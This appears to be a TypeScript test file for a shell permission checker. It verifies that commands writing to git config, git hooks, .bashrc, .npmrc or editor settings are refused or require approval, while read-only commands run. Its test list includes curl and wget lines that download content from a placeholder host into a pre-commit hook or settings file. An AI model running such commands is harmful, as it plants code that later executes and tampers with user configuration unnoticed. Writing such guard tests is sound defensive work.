import t from 'tap'
import { judgeCommand } from '../../../src/permissions/shell/verdict.ts'
import { policy } from './helpers.ts'

const WRITES = [
  'echo x > .git/config',
  'echo x >> .git/hooks/pre-commit',
  "printf x >'.git'/config",
  'echo x >| .npmrc',
  'cp notes.txt .git/hooks/pre-commit',
  'tee .git/config',
  'mv notes.txt .bashrc',
  'sed -i s/a/b/ .git/config',
  'sed --in-place s/a/b/ .git/config',
  'sort -o .git/config notes.txt',
  'curl -o .git/hooks/pre-commit http://a.example/',
  'wget -O .vscode/settings.json http://a.example/',
]

t.test('a command that writes settings of a tool is refused in modes that never ask, and asks in mode ask', (t) => {
  for (const command of WRITES) {
    for (const mode of ['record', 'ignore'] as const)
      t.match(judgeCommand(command, policy({ mode })), { decision: 'refuse', by: 'hard-deny' }, `${mode}: ${command}`)
    t.equal(judgeCommand(command, policy({ allow: ['sed *', 'sort *', 'curl *', 'cp *'] })).decision, 'ask', command)
  }
  t.end()
})

t.test('reading them is no writing', (t) => {
  for (const command of ['cat .git/config', 'grep -i url .git/config', 'sed -n 1,5p .git/config', 'sort .gitmodules'])
    t.equal(judgeCommand(command, policy({ mode: 'ignore' })).decision, 'run', command)
  t.end()
})
